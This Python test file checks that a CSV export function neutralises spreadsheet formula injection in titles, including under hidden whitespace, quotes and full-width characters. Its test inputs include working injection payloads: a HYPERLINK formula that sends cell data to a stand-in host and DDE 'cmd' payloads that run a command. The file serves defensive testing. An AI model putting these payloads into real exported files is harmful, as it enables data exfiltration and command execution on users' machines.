import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from accord.views.csv import csv_row, to_csv

FORMULAS = ("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠")


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Talks")',
        "=cmd|'/C calc'!A0",
        "+1+cmd|'/C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        " \n=1+1",
        "＝1+1",
        '"=1+1"',
        "'=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\xa0=1+1",
        "%0A=1",
    ],
)
def test_a_title_that_would_be_a_formula_is_a_text(title: str) -> None:
    """However it is hidden behind blanks, quotes, marks that nobody sees, or in full width."""
    (cell,) = next(csv.reader(io.StringIO(csv_row([title]))))
    assert cell.startswith("'")


@pytest.mark.parametrize(
    "title", ["Talks open", "3 May", "Lam: ties must grow", "A = B", "“We agree”", "Việt Nam", "(-2)", ""]
)
def test_a_plain_title_stays_as_it_is(title: str) -> None:
    """Signs within a text are no formula."""
    assert next(csv.reader(io.StringIO(csv_row([title, "x"])))) == [title, "x"]


def test_numbers_are_numbers_and_nothing_is_empty() -> None:
    """A negative number of ours is no formula."""
    assert to_csv(["a", "b", "c"], [[-1.5, None, 3]]) == "a,b,c\r\n-1.5,,3\r\n"


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_any_texts_make_one_row_of_as_many_cells(values: list[str]) -> None:
    """No text breaks out of its cell, starts a formula, or steers a terminal."""
    row = csv_row(values)
    rows = list(csv.reader(io.StringIO(row)))
    assert len(rows) == 1 or values == [""]
    cells = rows[0] if rows else [""]
    assert len(cells) == len(values)
    assert not any(cell.startswith(FORMULAS) for cell in cells)
    assert not any(ord(char) < 32 or 127 <= ord(char) < 160 for char in row.removesuffix("\r\n"))
